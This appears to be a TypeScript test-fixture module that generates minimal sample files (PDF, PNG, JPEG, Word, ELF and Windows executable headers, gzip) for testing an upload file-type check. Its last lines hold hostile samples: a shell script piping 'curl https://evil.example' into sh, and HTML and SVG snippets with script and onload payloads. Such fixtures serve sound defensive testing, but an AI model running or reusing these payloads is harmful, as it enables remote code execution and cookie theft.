import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { buildCompoundFile } from './cfb-builder';
import { buildZip, type ZipEntry } from './zip-builder';

const PDF_BODY = [
  '%PDF-1.7',
  '%\xe2\xe3\xcf\xd3',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
].join('\n');
const PDF_END = '\ntrailer << /Root 1 0 R >>\n%%EOF\n';

/** A small real PDF; with `size`, padded with comment lines to exactly that many bytes. */
export function pdf(size?: number): Buffer {
  const head = Buffer.from(`${PDF_BODY}\n`, 'latin1');
  const end = Buffer.from(PDF_END, 'latin1');
  if (size === undefined) return Buffer.concat([head, end]);
  const padding = size - head.length - end.length;
  if (padding < 2) throw new Error(`a PDF cannot be ${size} bytes`);
  const filler = Buffer.alloc(padding, 0x20);
  filler[0] = 0x25; // '%': the padding is one long comment
  return Buffer.concat([head, filler, end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 1×1 PNG. */
export function png(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header.writeUInt8(8, 8);
  header.writeUInt8(2, 9);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 255, 255]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The start and end of a JFIF image (what file-type and the service look at). */
export function jpeg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'latin1'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.alloc(64, 0x11),
    Buffer.from([0xff, 0xd9]),
  ]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Contrato de trabajo</w:t></w:r></w:p></w:body></w:document>`;

export function docxEntries(): ZipEntry[] {
  return [
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(RELS) },
    { name: 'word/document.xml', data: Buffer.from(DOCUMENT) },
  ];
}

/** A minimal Word document (docx), optionally with more entries. */
export function docx(extra: ZipEntry[] = []): Buffer {
  return buildZip([...docxEntries(), ...extra]);
}

/** A Word 97-2003 document's structure: an OLE2 file with a WordDocument stream. */
export function doc(): Buffer {
  return buildCompoundFile([
    { name: 'WordDocument', type: 'stream' },
    { name: '1Table', type: 'stream' },
  ]);
}

/** The start of a 64-bit Linux executable. */
export function elfExecutable(): Buffer {
  const file = Buffer.alloc(4096, 0);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(file, 0);
  file.writeUInt16LE(2, 16);
  file.writeUInt16LE(0x3e, 18);
  return file;
}

/** The start of a Windows executable: an MZ stub pointing at a PE header. */
export function windowsExecutable(): Buffer {
  const file = Buffer.alloc(4096, 0);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x14c, 0x84);
  return file;
}

export const shellScript = () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
export const html = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
export const svg = () =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>',
  );
export const gzip = () => gzipSync(Buffer.from('not a document '.repeat(100)));
